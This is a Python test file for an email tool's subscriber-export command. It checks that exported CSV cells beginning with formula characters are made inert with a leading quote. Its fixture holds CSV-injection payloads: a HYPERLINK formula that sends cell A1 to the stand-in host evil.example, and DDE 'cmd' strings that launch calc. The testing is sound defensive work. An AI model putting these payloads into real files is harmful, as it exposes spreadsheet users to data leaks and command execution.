"""``wildmail subscribers export`` never hands a spreadsheet a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re

from typer.testing import CliRunner

from wildmail.cli import app

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")  # a number a spreadsheet reads as such, not a formula
HOSTILE = {
    "address": "=1+1@example.org",
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "plan": "+cmd|' /C calc'!A0",
    "note": "@SUM(1+9)*cmd|' /C calc'!A0",
    "score": "-2+3",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
}


def assert_formula_safe(text: str) -> list[list[str]]:
    """Every cell of ``text`` is inert in a spreadsheet and every field is quoted; returns the rows."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows, "empty export"
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), (cell, row)
    for line in text.splitlines():
        if line:
            assert line.startswith('"') and line.endswith('"'), line
    return rows


def test_cli_export_neutralises_formulas_in_every_user_field(db_url, tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("WILDMAIL_DATABASE_URL", db_url)
    monkeypatch.setenv("WILDMAIL_CONFIG", "/dev/null")
    monkeypatch.setenv("WILDMAIL_SECRET_KEY", "export-test-key-0123456789-abcdefghijklmnopqrstuvwxyz")
    runner = CliRunner()
    assert runner.invoke(app, ["subscribers", "list-create", "news", "--single-opt-in"]).exit_code == 0
    source = tmp_path / "hostile.csv"
    with source.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["email", "name", "plan", "note", "score", "tab", "cr", "=evil()"])
        writer.writerow([*HOSTILE.values(), "=attr()"])
        writer.writerow(["plain@example.org", "Plain Person", "gold", "", "-5", "", "", "x"])
    imported = runner.invoke(app, ["subscribers", "import", str(source), "--list", "news"])
    assert imported.exit_code == 0 and "2 new" in imported.output, imported.output

    printed = runner.invoke(app, ["subscribers", "export", "--list", "news"])
    assert printed.exit_code == 0, printed.output
    target = tmp_path / "out.csv"
    assert runner.invoke(app, ["subscribers", "export", "-o", str(target)]).exit_code == 0
    for text in (printed.stdout, target.open(newline="").read()):
        header, hostile, plain = assert_formula_safe(text)
        # nothing lost: the hostile text is there, made inert with a leading quote
        assert "'=evil()" in header
        row = dict(zip(header, hostile, strict=True))
        assert row["email"] == "'" + HOSTILE["address"]
        assert row["name"] == "'" + HOSTILE["name"]
        assert row["plan"] == "'" + HOSTILE["plan"]
        assert row["note"] == "'" + HOSTILE["note"]
        assert row["score"] == "'-2+3"
        assert row["'=evil()"] == "'=attr()"
        # a plain number stays a number, plain text stays as it was
        other = dict(zip(header, plain, strict=True))
        assert (other["email"], other["name"], other["score"]) == ("plain@example.org", "Plain Person", "-5")


def test_safe_cell_leaves_numbers_and_plain_text_alone() -> None:
    from wildmail.core.csvsafe import safe_cell

    assert [safe_cell(v) for v in (-3, 0.25, None, "-5", "+4930123", "-1.5", "Ada", "a=b")] == [
        -3, 0.25, None, "-5", "+4930123", "-1.5", "Ada", "a=b",
    ]  # fmt: skip
    assert [safe_cell(v) for v in ("-2+3", "+1e3", "@x", "\uff1dSUM(1)", "\t1", "=1")] == [
        "'-2+3", "'+1e3", "'@x", "'\uff1dSUM(1)", "'\t1", "'=1",
    ]  # fmt: skip
